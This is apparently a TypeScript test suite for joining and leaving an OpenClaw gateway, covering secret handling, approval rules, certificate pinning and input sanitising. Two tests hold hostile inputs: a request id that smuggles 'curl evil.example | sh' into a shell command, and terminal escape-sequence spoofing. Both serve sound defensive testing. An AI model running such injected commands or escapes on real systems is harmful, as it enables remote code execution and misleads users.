import { execFile } from 'node:child_process';
import { existsSync } from 'node:fs';
import { chmod, mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import { createServer } from 'node:https';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { readDevice, writeDevice } from '@gsd-code-skill/openclaw-client';
import { createRegistry, readRegistry } from '@gsd-code-skill/registry';
import { temporaryFolder } from '@gsd-code-skill/testing';
import { test as base, expect } from 'vitest';
import {
  type ScriptedGateway,
  startScriptedGateway,
} from '../../../../../packages/openclaw-client/test/scripted-gateway.ts';
import type { Machine } from '../../diagnose/machine.ts';
import { createPlainGuide } from '../guide/plain-guide.ts';
import { checkGatewayUrl } from './check-gateway-url.ts';
import { joinGateway } from './join.ts';
import type { JoinOptions } from './join-options.ts';
import { leaveGateway } from './leave.ts';
import { hostWord } from './name-host.ts';
import { prepareNodeCode } from './node-code.ts';

interface Place {
  readonly machine: Machine;
  readonly gateway: ScriptedGateway;
  readonly said: () => string;
  /** What this host's openclaw was told, one call a line. */
  readonly calls: () => Promise<string>;
  readonly device: string;
  join(options?: Partial<JoinOptions>): Promise<void>;
  prepareNode(gateway: string, nodeCodeFile: string): Promise<void>;
  leave(gateway?: string): Promise<boolean>;
}

/** Stands in for an OpenClaw on this host that has rules of its own. */
const openclaw = `#!/bin/sh
printf '%s\\n' "$*" >> "$HOME/calls"
case "$*" in
  'approvals get --json') echo '{"file":{"version":1,"defaults":{"ask":"on-miss"},"agents":{"main":{"allowlist":[{"pattern":"/bin/ls"}]}}}}' ;;
  'approvals set --stdin') cat > "$HOME/approvals" ;;
esac
`;

const test = base.extend<{ place: Place }>({
  place: async ({}, use) => {
    const folder = await temporaryFolder();
    const home = folder.path;
    const bin = join(home, 'bin');
    await mkdir(bin);
    for (const [name, text] of Object.entries({ openclaw, 'gsd-mcp': '#!/bin/sh\n' })) {
      await writeFile(join(bin, name), text);
      await chmod(join(bin, name), 0o755);
    }
    const gateway = await startScriptedGateway();
    const lines: string[] = [];
    const print = (text: string) => {
      lines.push(text);
      // the administrator, who reads over the shoulder
      if (text.includes('openclaw devices approve R1')) gateway.devices.approve();
    };
    const guide = createPlainGuide({ print, warn: print, colours: false });
    const stateDir = join(home, 'state');
    const machine = {
      env: { HOME: home, PATH: `${bin}:/usr/bin:/bin` },
      stateDir,
      registryPath: join(home, 'registry.json'),
      settingsPath: join(home, 'settings.json'),
      platform: process.platform,
      installation: { nodePath: process.execPath, workerPath: '', version: '0.0.0' },
    };
    await use({
      machine,
      gateway,
      said: () => lines.join('\n'),
      calls: () => readFile(join(home, 'calls'), 'utf8'),
      device: join(stateDir, 'device.json'),
      async join(options) {
        const codeFile = join(home, 'code');
        await writeFile(codeFile, gateway.devices.setupCode(gateway.url), { mode: 0o600 });
        const asked = { gateway: gateway.url, codeFile, hostName: 'wa', interval: 10 };
        await joinGateway({ machine, guide, ...asked, ...options });
      },
      prepareNode: (url, nodeCodeFile) =>
        prepareNodeCode({ machine, guide, gateway: url, nodeCodeFile }),
      leave: (from) => leaveGateway(machine, guide, from),
    });
    await gateway.close();
    await folder.remove();
  },
});

test('joins by a setup code, which is gone then, and keeps its secrets to itself', async ({
  place,
}) => {
  const { machine, gateway, device } = place;
  await place.join();
  const { registry } = await readRegistry(machine.registryPath);
  expect(registry.host).toEqual({ name: 'wa', hands: 'node' });
  expect(registry.delivery).toEqual({ transport: 'gateway', gateway_url: gateway.url });
  expect((await stat(device)).mode & 0o777).toBe(0o600);
  expect(existsSync(join(machine.env.HOME ?? '', 'code'))).toBe(false);
  const { token, privateKeyPem } = readDevice(device) ?? {};
  const told = [
    place.said(),
    await readFile(machine.registryPath, 'utf8'),
    await place.calls(),
  ].join('\n');
  expect(told).not.toContain(token?.token);
  expect(told).not.toContain(privateKeyPem?.split('\n')[1]);
  expect(token?.scopes).toEqual(['operator.read', 'operator.write']);
});

test('its node publishes the tools under its own name, and runs no commands', async ({ place }) => {
  await place.join();
  expect(await place.calls()).toContain('config set nodeHost.mcp.servers.gsd-wa {"command":');
  const closed = JSON.parse(
    await readFile(join(place.machine.env.HOME ?? '', 'approvals'), 'utf8'),
  );
  expect(closed.defaults).toEqual({ security: 'deny', ask: 'off' });
  expect(closed.agents.main.allowlist).toEqual([{ pattern: '/bin/ls' }]);
  expect(place.said()).toContain('openclaw connect --target-file <file> --display-name wa');
});

test('its tools look where this host’s registry, state and tmux are', async ({ place }) => {
  const env = { ...place.machine.env, GSD_TMUX_SOCKET: '/tmp/a b', GSD_REGISTRY: '/r.json' };
  const machine = { ...place.machine, env };
  await place.join({ machine });
  const own = '"env":{"GSD_REGISTRY":"/r.json","GSD_TMUX_SOCKET":"/tmp/a b"}';
  expect(await place.calls()).toContain(own);
  await place.join({ machine, codeFile: undefined, hands: 'ssh' });
  expect(place.said()).toContain(
    `restrict,command="env 'GSD_REGISTRY=/r.json' 'GSD_TMUX_SOCKET=/tmp/a b' `,
  );
});

test('over ssh, says what goes where, and leaves its own OpenClaw alone', async ({ place }) => {
  await place.join({ hands: 'ssh' });
  expect(place.said()).toContain('restrict,command="');
  expect(place.said()).toContain('openclaw mcp add gsd-wa --command ssh --arg -T');
  await expect(place.calls()).rejects.toThrow();
});

test('a name whose tools another node publishes is refused, before anything is changed', async ({
  place,
}) => {
  const { gateway, machine } = place;
  const nodePluginTools = [{ name: 'gsd-wa_fleet_list', mcp: { server: 'gsd-wa', tool: 'x' } }];
  gateway.tools.nodes = [{ nodeId: 'ab12', displayName: 'wa\u001b[2J', nodePluginTools }];
  await expect(place.join()).rejects.toThrow('a node publishes gsd-wa already');
  expect(existsSync(machine.registryPath)).toBe(false);
  await place.join({ codeFile: undefined, hostName: 'wb' });
  gateway.tools.nodes = [{ nodeId: 'ab12', displayName: 'wb', nodePluginTools: [] }];
  expect((await readRegistry(machine.registryPath)).registry.host?.name).toBe('wb');
});

test('a name that another node has is refused, too, while that node is away', async ({ place }) => {
  const { gateway, machine } = place;
  const away = (nodeId: string, displayName: string) => ({ nodeId, displayName, connected: false });
  gateway.tools.nodes = [away('cd34', 'wb'), away('ab12', 'WA')];
  const refused = place.join();
  await expect(refused).rejects.toThrow('the node WA is already known to the gateway');
  await expect(refused).rejects.toThrow('openclaw devices remove ab12');
  await expect(refused).rejects.toMatchObject({ fix: expect.stringContaining('--host-name') });
  expect(existsSync(machine.registryPath)).toBe(false);
  gateway.tools.nodes = [away('cd34', 'wb')];
  await place.join({ codeFile: undefined });
  gateway.tools.nodes = [away('cd34', 'wb'), away('ab12', 'wa')];
  // its own node, which is down
  await place.join({ codeFile: undefined });
  expect((await readRegistry(machine.registryPath)).registry.host?.name).toBe('wa');
});

test('a name that the gateway starts already is said, and the host’s own is not', async ({
  place,
}) => {
  place.gateway.tools.servers = { 'gsd-wa': {} };
  await place.join({ hands: 'ssh' });
  expect(place.said()).toContain('the gateway starts gsd-wa already');
  const before = place.said();
  await place.join({ codeFile: undefined, hands: 'ssh' });
  expect(place.said().slice(before.length)).not.toContain('starts gsd-wa already');
});

test('makes the code of its node ready, whatever the gateway printed around it', async ({
  place,
}) => {
  const { machine, gateway } = place;
  await place.join();
  const path = join(machine.env.HOME ?? '', 'node code');
  const code = gateway.devices.setupCode(gateway.url);
  await writeFile(path, JSON.stringify({ access: 'node', setupCode: code }), { mode: 0o644 });
  const device = readDevice(place.device);
  if (device === undefined) throw new Error('no device');
  writeDevice(place.device, { ...device, fingerprint: 'AB:CD' });
  const prepare = (url = gateway.url) => place.prepareNode(url, path);
  await expect(prepare('wss://other.example')).rejects.toThrow('has not joined wss://other');
  await prepare();
  const pinned = JSON.parse(Buffer.from(await readFile(path, 'utf8'), 'base64url').toString());
  expect(pinned).toMatchObject({ url: gateway.url, tlsFingerprint: 'abcd' });
  expect((await stat(path)).mode & 0o777).toBe(0o600);
  expect(place.said()).toContain("openclaw connect --target-file '");
  expect(place.said()).not.toContain(pinned.bootstrapToken);
  await writeFile(path, 'hunter2');
  await expect(prepare()).rejects.toThrow(/^this is not an OpenClaw setup code$/);
  writeDevice(place.device, device);
  await place.join({ codeFile: undefined, hands: 'ssh' });
  await expect(prepare()).rejects.toThrow('no node as its hands');
});

test('run again, it needs no code', async ({ place }) => {
  await place.join();
  const before = readDevice(place.device);
  await place.join({ codeFile: undefined, hands: 'ssh' });
  expect(readDevice(place.device)).toEqual(before);
});

test('an attempt after one that nobody approved comes with the same key', async ({ place }) => {
  const strange = { print: () => {}, warn: () => {}, colours: false };
  const guide = createPlainGuide(strange);
  await expect(place.join({ guide, timeout: 30 })).rejects.toThrow('nobody has approved');
  const before = readDevice(place.device);
  await place.join();
  expect(readDevice(place.device)?.deviceId).toBe(before?.deviceId);
});

test('a host that has joined one gateway joins no other by the way', async ({ place }) => {
  await place.join();
  const other = place.join({ gateway: 'ws://127.0.0.1:9' });
  await expect(other).rejects.toMatchObject({ fix: expect.stringContaining('--undo --gateway') });
});

test('what is no code is told in no word of it', async ({ place }) => {
  const codeFile = join(place.machine.env.HOME ?? '', 'bad');
  await writeFile(codeFile, 'hunter2');
  await expect(place.join({ codeFile })).rejects.toThrow(/^this is not an OpenClaw setup code$/);
});

test('leaves nothing of it behind, and says what the administrator removes', async ({ place }) => {
  const { machine } = place;
  await createRegistry(machine.registryPath, {
    agents: [{ agent_id: 'warden' }],
    delivery: { retry: { max_age_h: 5 } },
  });
  await place.join();
  const { deviceId } = readDevice(place.device) ?? {};
  expect(await place.leave()).toBe(true);
  const { registry } = await readRegistry(machine.registryPath);
  expect(registry).not.toHaveProperty('host');
  expect(registry.delivery).toEqual({ retry: { max_age_h: 5 } });
  expect(registry.agents).toHaveLength(1);
  expect(existsSync(place.device)).toBe(false);
  expect(await place.calls()).toContain('config unset nodeHost.mcp.servers.gsd-wa');
  expect(place.said()).toContain(`openclaw devices remove ${deviceId}`);
  expect(await place.leave()).toBe(false);
});

test('takes nothing back that somebody else has written', async ({ place }) => {
  const { machine } = place;
  const own = { host: { name: 'mine' }, delivery: { transport: 'cli' as const } };
  await createRegistry(machine.registryPath, { agents: [{ agent_id: 'warden' }], ...own });
  expect(await place.leave()).toBe(false);
  expect((await readRegistry(machine.registryPath)).registry).toMatchObject(own);
});

test('leaves no other gateway than the one that is named', async ({ place }) => {
  await place.join();
  await expect(place.leave('wss://gateway.example')).rejects.toThrow('this host has joined ws://');
  expect(readDevice(place.device)?.token).toBeDefined();
  expect(await place.leave(`${place.gateway.url}/`)).toBe(true);
});

test('rules of this host’s OpenClaw that cannot be read are not written over', async ({
  place,
}) => {
  const home = place.machine.env.HOME ?? '';
  const failing = openclaw.replace("get --json') echo", "get --json') echo '{}'; exit 1; echo");
  await writeFile(join(home, 'bin', 'openclaw'), failing);
  await place.join();
  expect(existsSync(join(home, 'approvals'))).toBe(false);
  expect(place.said()).toContain('exec approvals cannot be read');
  // a node whose shell may be open is not to be connected
  expect(place.said()).not.toContain('openclaw connect');
});

test('a gateway puts no words into the administrator’s shell', async ({ place }) => {
  place.gateway.devices.requestId = 'R1; curl evil.example | sh';
  await expect(place.join({ timeout: 30 })).rejects.toThrow('nobody has approved');
  expect(place.said()).toContain('openclaw devices approve');
  expect(place.said()).not.toContain('curl');
});

test('a gateway puts nothing but words on the terminal of who joins', async ({ place }) => {
  const evil = '\u001b]0;owned\u0007\u001b[2J\u202e\n✔ ok      gateway: all is well';
  place.gateway.says.version = evil;
  await place.join();
  place.gateway.says.refusal = evil;
  place.gateway.devices.revoke();
  const refused = place.join({ codeFile: undefined });
  await expect(refused).rejects.toThrow('owned');
  const error = await refused.catch(({ message }: Error) => message);
  for (const told of [place.said(), error ?? '']) expect(told).not.toMatch(/[^\P{Cc}\n]|\u202e/u);
  expect(`${place.said()}\n${error}`).not.toMatch(/^✔ ok +gateway: all is well/m);
});

test('a file of a device that is broken goes, too', async ({ place }) => {
  await place.join();
  await writeFile(place.device, '{');
  expect(await place.leave()).toBe(true);
  expect(existsSync(place.device)).toBe(false);
});

test('goes to no other machine in plain text, unless somebody says so', async ({ place }) => {
  await expect(place.join({ gateway: 'ws://192.0.2.1:18789' })).rejects.toThrow(
    'can read the wakes',
  );
  expect(existsSync(place.device)).toBe(false);
});

test('takes only the certificate that was named, or that a person has seen', async ({ place }) => {
  const home = place.machine.env.HOME ?? '';
  const [key, cert] = [join(home, 'key.pem'), join(home, 'cert.pem')];
  const words = `req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 1 -subj /CN=gw -keyout ${key} -out ${cert}`;
  await promisify(execFile)('openssl', words.split(' '));
  const server = createServer({ key: await readFile(key), cert: await readFile(cert) });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  try {
    const { port } = server.address() as { port: number };
    const gateway = `wss://127.0.0.1:${port}`;
    const fingerprint = Array(32).fill('00').join(':');
    await expect(place.join({ gateway, fingerprint })).rejects.toThrow('another certificate');
    await expect(place.join({ gateway })).rejects.toThrow('nobody has said');
    expect(existsSync(place.device)).toBe(false);
  } finally {
    server.close();
    server.closeAllConnections();
  }
});

test('a certificate that is named is looked at, also by a host that has joined', async ({
  place,
}) => {
  const fingerprint = Array(32).fill('00').join(':');
  await expect(place.join({ fingerprint })).rejects.toThrow('shows no certificate');
  await place.join();
  await expect(place.join({ fingerprint })).rejects.toThrow('shows no certificate');
  expect(readDevice(place.device)?.token).toBeDefined();
});

test.for([
  ['ws://127.0.0.1:18790/', { url: 'ws://127.0.0.1:18790', isEncrypted: false, isTunnel: true }],
  ['wss://GW.example:18789', { url: 'wss://gw.example:18789', isEncrypted: true, isTunnel: false }],
  ['ws://[::1]:1', { url: 'ws://[::1]:1', isEncrypted: false, isTunnel: true }],
] as const)('%s is a gateway', ([given, way]) => {
  expect(checkGatewayUrl(given)).toEqual(way);
});

test.for(['http://gw', 'gw:18789', 'ws://me:secret@gw', 'ws://gw/?token=x', 'ws://gw#x', ''])(
  '%j is none',
  (given) => {
    expect(() => checkGatewayUrl(given)).toThrow(/gateway’s address/);
  },
);

test.for([
  ['Build-Box.example.org', 'build-box'],
  ['_Ü_', 'host'],
  ['a'.repeat(40), 'a'.repeat(30)],
  [`${'a'.repeat(29)}--b`, 'a'.repeat(29)],
])('the machine %s is called %s', ([given = '', name]) => {
  expect(hostWord(given)).toBe(name);
});
